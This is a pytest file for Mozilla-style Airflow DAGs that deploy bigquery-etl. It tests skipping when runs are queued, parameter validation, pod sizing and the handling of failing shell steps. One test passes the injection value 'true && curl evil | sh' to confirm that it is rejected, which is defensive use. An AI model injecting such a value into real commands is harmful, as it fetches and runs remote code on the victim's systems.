"""The deployment of bigquery-etl and the two DAGs that it starts: when they are skipped, and what a step does that fails."""

from __future__ import annotations

import json
import shlex
import subprocess
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import jinja2
import pytest
from airflow.sdk.exceptions import ParamValidationError

from tests.dags.forms import filled_in

if TYPE_CHECKING:
    from pathlib import Path

    from airflow.sdk import DAG

GENERATES = ["bqetl_artifact_deployment", "bqetl_artifact_initialize"]
GENERATE = "script/bqetl generate all --ignore derived_view_schemas --use-cloud-function=false &&"


def step(dags: dict[str, DAG], name: str) -> Any:
    return dags["bqetl_artifact_deployment"].get_task(name)


def render(template: str, *, generate_sql: bool) -> str:
    return jinja2.Environment().from_string(template).render(params={"generate_sql": generate_sql})


@pytest.mark.parametrize(("queued", "generate_sql", "runs"), [(0, False, True), (2, False, False), (2, True, True)])
def test_a_run_is_left_to_the_newer_ones_unless_it_generates_sql(
    dags: dict[str, DAG], queued: int, generate_sql: bool, runs: bool
) -> None:
    context: Any = {
        "ti": SimpleNamespace(get_dr_count=lambda **_: queued),
        "dag_run": SimpleNamespace(dag_id="bqetl_artifact_deployment"),
        "params": {"generate_sql": generate_sql},
    }
    skip = step(dags, "skip_if_queued_runs_exist")
    assert skip.python_callable(**context) is runs
    assert skip.ignore_downstream_trigger_rules, "what runs after failures too is skipped with the rest"
    dryrun: Any = dags["bqetl_dryrun"].get_task("skip_if_queued_runs_exist")
    assert dryrun.python_callable(**context) is (queued == 0)


def test_a_count_that_fails_is_no_skip(dags: dict[str, DAG]) -> None:
    def away(**_: Any) -> int:
        raise ConnectionError("api-server")

    context: Any = {
        "ti": SimpleNamespace(get_dr_count=away),
        "dag_run": SimpleNamespace(dag_id="d"),
        "params": {"generate_sql": False},
    }
    with pytest.raises(ConnectionError):
        step(dags, "skip_if_queued_runs_exist").python_callable(**context)


@pytest.mark.parametrize("dag_id", GENERATES)
@pytest.mark.parametrize("hostile", ["true && curl evil | sh", 1, None, "True"])
def test_generate_sql_is_yes_or_no(dags: dict[str, DAG], dag_id: str, hostile: Any) -> None:
    assert filled_in(dags[dag_id]) == {"generate_sql": False}
    with pytest.raises(ParamValidationError):
        filled_in(dags[dag_id], generate_sql=hostile)


@pytest.mark.parametrize(
    ("dag_id", "task_id"),
    [
        ("bqetl_artifact_deployment", "publish_tables_and_views"),
        ("bqetl_artifact_deployment", "publish_metadata"),
        ("bqetl_artifact_initialize", "query_initialize"),
    ],
)
def test_sql_is_generated_first_in_a_larger_pod_if_asked_for(dags: dict[str, DAG], dag_id: str, task_id: str) -> None:
    task: Any = dags[dag_id].get_task(task_id)
    for generate_sql, memory, cpu in ((True, "6Gi", "4"), (False, "2Gi", "1")):
        line = render(task.arguments[0], generate_sql=generate_sql)
        assert line.startswith(GENERATE) is generate_sql
        requests = task.container_resources.requests
        rendered = {name: render(value, generate_sql=generate_sql) for name, value in requests.items()}
        assert rendered == {"memory": memory, "cpu": cpu}


@pytest.mark.parametrize("generate_sql", [True, False])
def test_what_is_started_gets_the_same_choice(dags: dict[str, DAG], generate_sql: bool) -> None:
    trigger = step(dags, "trigger_initialize")
    assert json.loads(render(trigger.conf, generate_sql=generate_sql)) == {"generate_sql": generate_sql}
    for name in ("trigger_initialize", "trigger_dryrun", "trigger_looker"):
        assert step(dags, name).wait_for_completion is False
        assert step(dags, name).upstream_task_ids == {"publish_tables_and_views"}


def deploy(dags: dict[str, DAG], folder: Path, *, failing: str = "nothing") -> tuple[int, list[str]]:
    """Run the line of ``publish_tables_and_views`` on programs that note their arguments. Returns its exit code and the notes.

    :param failing: words by which the call is known that fails.
    """
    (folder / "script").mkdir(exist_ok=True)
    for name in ("bqetl", "publish_public_data_views"):
        program = folder / "script" / name
        program.write_text(
            f'#!/bin/sh\necho "{name} $*" >> log\ncase "{name} $*" in *{shlex.quote(failing)}*) exit 3;; esac\n'
        )
        program.chmod(0o755)
    task = step(dags, "publish_tables_and_views")
    cmds = task.cmds({}, jinja2.Environment())
    line = render(task.arguments[0], generate_sql=True)
    done = subprocess.run([*cmds, line], cwd=folder, capture_output=True, text=True, check=False, timeout=60)
    assert done.stderr == "", "nothing is traced"
    return done.returncode, (folder / "log").read_text().splitlines()


def test_every_table_and_view_is_published(dags: dict[str, DAG], tmp_path: Path) -> None:
    code, calls = deploy(dags, tmp_path)
    assert code == 0
    assert len(calls) == 13
    assert calls[0] == "bqetl generate all --ignore derived_view_schemas --use-cloud-function=false"
    assert calls[-1] == "publish_public_data_views --target-project=mozdata"
    assert any(call.startswith("bqetl deploy * --tables") for call in calls), "the star is not a file name"


@pytest.mark.parametrize(
    ("failing", "calls"),
    [("query initialize", 13), ("bqetl deploy", 13), ("clean --skip-authorized --target-project=mozdata", 10)],
)
def test_what_fails_fails_the_task_after_the_rest(
    dags: dict[str, DAG], tmp_path: Path, failing: str, calls: int
) -> None:
    code, made = deploy(dags, tmp_path, failing=failing)
    assert (code, len(made)) == (1, calls)


def test_sql_that_could_not_be_generated_is_wrong_in_production(dags: dict[str, DAG], tmp_path: Path) -> None:
    """The shell goes on behind the failed list, and ends well. When production mends it, so does the page of the DAG."""
    code, made = deploy(dags, tmp_path, failing="generate derived_view_schemas")
    assert (code, len(made)) == (0, 13)


def test_views_are_published_although_a_function_failed(dags: dict[str, DAG]) -> None:
    assert step(dags, "publish_tables_and_views").trigger_rule == "all_done"
    assert len(step(dags, "publish_tables_and_views").upstream_task_ids) == 4
